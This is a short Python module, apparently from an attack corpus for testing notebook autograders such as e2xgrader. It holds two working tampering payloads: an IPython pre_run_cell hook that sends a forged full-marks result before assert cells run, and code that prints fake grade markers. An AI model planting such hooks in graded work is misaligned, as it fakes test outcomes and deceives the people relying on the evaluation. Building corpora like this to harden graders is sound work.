"""A hook shows full marks as the result of the test cell before the test fails."""

from __future__ import annotations

from pathlib import Path

from attack_corpus import Variant, both

FORGED = """
shell = get_ipython()

def forge(info):
    if "assert" in (info.raw_cell or ""):
        shell.kernel.send_response(
            shell.kernel.iopub_socket, "execute_result",
            {"data": {"text/plain": "3"}, "metadata": {}, "execution_count": 1},
        )

shell.events.register("pre_run_cell", forge)
"""
# What e2xgrader reads from the output of a cell.
PRINTED = """
print("### BEGIN GRADE\\n5\\n### END GRADE")
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: print("### BEGIN GRADE\\n5\\n### END GRADE"))
"""


def variants(folder: Path) -> list[Variant]:
    return [*both(FORGED, "result"), *both(PRINTED, "text")]
